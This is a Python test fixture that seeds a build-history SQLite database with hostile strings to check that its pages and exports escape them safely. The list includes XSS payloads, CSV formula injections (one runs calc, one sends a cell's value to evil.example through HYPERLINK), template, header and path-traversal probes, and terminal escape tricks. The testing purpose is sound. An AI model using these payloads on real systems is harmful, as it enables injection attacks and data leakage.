"""A history into which somebody has written what harms whoever shows it."""

import contextlib
import re
import sqlite3
from datetime import timedelta
from pathlib import Path

from recorder import database, schema, times
from recorder.tables import Table

SCRIPT = "<script>window.owned=1;alert(1)</script>"
PAYLOADS = (
    SCRIPT,
    '"><img src=//evil.example/x onerror="window.owned=1">',
    "' onmouseover='window.owned=1' autofocus onfocus='window.owned=1' x='",
    f"</title></style></textarea></text></svg>--> ]]><svg onload='window.owned=1'>{SCRIPT}",
    "javascript:window.owned=1//",
    " \tJaVaScRiPt:window.owned=1",
    f"https://ok.example/\"'><b>{SCRIPT}",
    f"data:text/html,{SCRIPT}",
    "//evil.example/x",
    '=cmd|"/C calc"!A0',
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "+1+cmd|x",
    "-2+3+cmd|x",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\x1b[31mred\x1b[2J\x1b]0;owned\x07\x9b31m",
    "\u202egnp.exe\u2066\u200f",
    "\x01\x08\x0b\x7f\x85\ufffe",
    f"a\x00{SCRIPT}",
    "x" * 5000,
    "wide \U0001f600\U0001f469\u200d\U0001f467 \u201cquotes\u201d '\"`&amp;&#60;",
    "{{7777*7777}} {% raw %} ${7777*7777} #{7777*7777}",
    f"a\r\nSet-Cookie: owned=1\r\n\r\n{SCRIPT}",
    "../../etc/passwd?a=%00&b=#c;d",
    f'{{"A": "{SCRIPT}", "__proto__": {{"owned": 1}}}}',
    "[" * 200,
    "NaN",
)
"""One for each row; a name may be any of them."""

SUM = "60481729"
"""What a template engine would make of the sum among the payloads."""

# In the row of this payload the instants are hostile too; other rows have sound ones, or pages of
# the last days would show none of them.
_WITHOUT_TIMES = PAYLOADS.index(SCRIPT)
_INSTANT = re.compile(r".*_at|(?:last_)?build_timestamp|day|timezone")


def write(path: Path) -> None:
    """Fill every text column of every table of the history at `path`, a row for each payload."""
    with contextlib.closing(sqlite3.connect(path)) as connection, connection:
        for table in schema.TABLES:
            for number, payload in enumerate(PAYLOADS):
                row = _row(table, number, payload)
                marks = ", ".join("?" * len(row))
                connection.execute(
                    f"INSERT INTO {table.name} ({', '.join(row)}) VALUES ({marks})",
                    list(row.values()),
                )
    with database.connect_to_read(path) as connection:
        assert connection.execute("SELECT count(*) FROM steps").fetchone()[0] == len(PAYLOADS)


def _row(table: Table, number: int, payload: str) -> dict[str, str | int | float]:
    row: dict[str, str | int | float] = {}
    for column in table.columns:
        if column.derived:
            continue
        kind = column.sql.split()[0]
        if kind == "TEXT":
            row[column.name] = payload
            if _INSTANT.fullmatch(column.name) and number != _WITHOUT_TIMES:
                row[column.name] = _instant(column.name, number)
        elif column.name == "id" or column.name.endswith("_id") or "UNIQUE" in column.sql:
            row[column.name] = number + 1
        else:
            # A build is cold or warm, not both.
            row[column.name] = 1.5 if kind == "REAL" else int(column.name != "warm")
    if "success" in row:
        row["success"] = number % 2
    if "canceled" in row:
        row["canceled"] = int(number % 3 == 0)
    if "status" in row and number % 3:
        row["status"] = "completed" if number % 2 else "failed"
    return row


def _instant(column: str, number: int) -> str:
    moment = times.now() - timedelta(seconds=number)
    if column == "updated_at":  # ahead, as `live` leaves out what was not heard of for a while
        moment += timedelta(hours=1)
    if column == "timezone":
        return "Asia/Singapore"
    text = times.utc_text(moment)
    return text[:10] if column == "day" else text
